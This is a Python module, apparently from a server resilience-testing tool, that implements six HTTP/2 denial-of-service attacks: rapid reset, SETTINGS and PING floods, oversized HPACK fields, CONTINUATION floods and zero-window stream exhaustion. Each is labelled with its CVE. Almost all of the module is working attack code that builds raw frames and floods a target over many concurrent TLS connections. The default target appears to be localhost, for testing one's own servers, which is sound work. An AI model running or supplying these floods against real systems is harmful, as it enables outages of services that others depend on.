"""HTTP/2: requests that are taken back at once, frames that ask for nothing, fields that are much work.

h2-rapid-reset     a request and its end, again and again (CVE-2023-44487)
h2-settings        settings without end, each of which is to be acknowledged (CVE-2019-9515)
h2-pings           the same with pings (CVE-2019-9512)
h2-fields          the largest fields there may be, in the code that takes longest to unpack
h2-continuation    fields that go on and on in frames of no bytes (CVE-2024-27316)
h2-closed-window   answers that may not be sent, on as many streams as there may be (CVE-2019-9517)
"""

from __future__ import annotations

import itertools
import time
from collections.abc import Callable, Iterator
from functools import partial

from .attack import Attack
from .wire import Pieces, Stranger, Tally, Target, flood, gather, paced

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0x1, 0x3, 0x4, 0x6, 0x9
_END_STREAM, _END_HEADERS = 0x1, 0x4
#: GET, https, and a path that is not compressed; fields of the static table (RFC 7541, appendix A).
_PATH = b"/live/none/1.m4s"
_FIELDS = b"\x82\x87\x41\x01e\x04" + bytes([len(_PATH)]) + _PATH
_AT_ONCE = 50


def _frame(kind: int, flags: int, number: int, body: bytes = b"") -> bytes:
    return len(body).to_bytes(3) + bytes([kind, flags]) + number.to_bytes(4) + body


_HELLO = _PREFACE + _frame(_SETTINGS, 0, 0)


def _peer(target: Target, number: int, hello: bytes = _HELLO) -> Stranger:
    """A connection that has agreed on HTTP/2."""
    place = Target(
        0, target.https_port, target.seconds, number=target.number, sources=target.sources
    )
    return Stranger(place, number, tls=True, alpn="h2").say(hello)


def _again(target: Target, make: Callable[[Stranger], Pieces], peers: int = 20) -> Tally:
    """So many peers at once; who is closed comes again within a second."""
    until, tally = time.monotonic() + target.seconds, Tally()
    while time.monotonic() < until:
        crowd = gather(tally, peers, partial(_peer, target), until)
        flood(tally, crowd, make, min(until, time.monotonic() + 1))
    return tally


def rapid_reset(target: Target) -> Tally:
    """A thousand a second of each peer, which is ten times what is read of it."""

    def bursts() -> Iterator[bytes]:
        numbers = itertools.count(1, 2)
        while True:
            yield b"".join(
                _frame(_HEADERS, _END_STREAM | _END_HEADERS, number, _FIELDS)
                + _frame(_RESET, 0, number, (8).to_bytes(4))
                for number in itertools.islice(numbers, _AT_ONCE)
            )

    return _again(target, lambda _peer: paced(bursts(), 20))


def idle_frames(target: Target, one: bytes = _frame(_SETTINGS, 0, 0)) -> Tally:
    return _again(target, lambda _peer: itertools.repeat(one * _AT_ONCE))


def large_fields(target: Target) -> Tally:
    """A field whose value is written in the code for "a", five bits of zeros and ones (appendix B)."""
    coded = (0b00011).to_bytes(1) * 7_900
    size = bytes([0xFF]) + _varint(len(coded) - 127)
    fields = _FIELDS + b"\x00\x01a" + size + coded

    def pieces(_peer: Stranger) -> Pieces:
        return (
            _frame(_HEADERS, _END_STREAM | _END_HEADERS, number, fields)
            for number in itertools.count(1, 2)
        )

    return _again(target, pieces)


def _varint(value: int) -> bytes:
    """What is left of a number beyond its prefix (RFC 7541, section 5.1)."""
    written = bytearray()
    while value >= 128:
        written.append(value % 128 + 128)
        value //= 128
    return bytes([*written, value])


def continuation(target: Target) -> Tally:
    def pieces(_peer: Stranger) -> Pieces:
        yield _frame(_HEADERS, _END_STREAM, 1, _FIELDS)
        yield from itertools.repeat(_frame(_CONTINUATION, 0, 1) * _AT_ONCE)

    return _again(target, pieces)


def closed_window(target: Target) -> Tally:
    """The page, a hundred times on each connection, and not a byte of it may be sent."""
    until, tally = time.monotonic() + target.seconds, Tally()
    hello = _PREFACE + _frame(_SETTINGS, 0, 0, b"\x00\x04" + bytes(4))
    fields = b"\x82\x87\x41\x01e\x84"
    asked = b"".join(
        _frame(_HEADERS, _END_STREAM | _END_HEADERS, number, fields) for number in range(1, 190, 2)
    )
    peers = gather(tally, target.amount(200, 20), partial(_peer, target, hello=hello), until)
    flood(tally, peers, lambda _peer: iter([asked]), until)
    return tally


_one = partial(Attack, wishes=("--http-tls", "127.0.0.1:0"), crowd=True, sources=8)

ATTACKS = [
    _one("h2-rapid-reset", "+15", rapid_reset),
    _one("h2-settings", "+16", idle_frames),
    _one("h2-pings", "+16", partial(idle_frames, one=_frame(_PING, 0, 0, bytes(8))), in_short=False),
    _one("h2-fields", "+17", large_fields),
    _one("h2-continuation", "+17", continuation, in_short=False),
    _one("h2-closed-window", "+18", closed_window),
]
